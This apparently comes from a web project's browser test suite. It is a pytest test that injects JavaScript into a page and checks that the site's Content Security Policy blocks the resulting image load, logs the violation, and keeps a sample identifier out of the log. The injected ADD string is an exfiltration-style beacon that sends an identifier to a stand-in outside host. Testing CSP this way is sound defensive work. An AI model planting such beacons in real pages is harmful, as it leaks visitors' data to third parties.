"""A real browser keeps to the policy of our pages, and tells where it did."""

import time

import pytest

from tests.journeys.visitors import Visitors

pytestmark = pytest.mark.journey
ADD = "() => { const seen = new Image(); seen.src = 'https://elsewhere.example/p.png?who=A123456789'; document.body.append(seen); }"


def test_v3_4_7_what_a_browser_keeps_from_a_page_is_a_line_of_the_log(visitors: Visitors) -> None:
    buyer = visitors.stranger(javascript=True)
    buyer.goto("/privacy/")
    log = buyer.stack.home / "logs" / "web.log"
    assert "elsewhere.example" not in log.read_text("utf-8")
    buyer.page.evaluate(ADD)
    deadline = time.monotonic() + 20
    while "elsewhere.example" not in log.read_text("utf-8") and time.monotonic() < deadline:
        time.sleep(0.2)
    line = next(line for line in log.read_text("utf-8").splitlines() if "elsewhere.example" in line)
    assert "img-src forbids https://elsewhere.example/p.png on " in line
    assert "A123456789" not in line
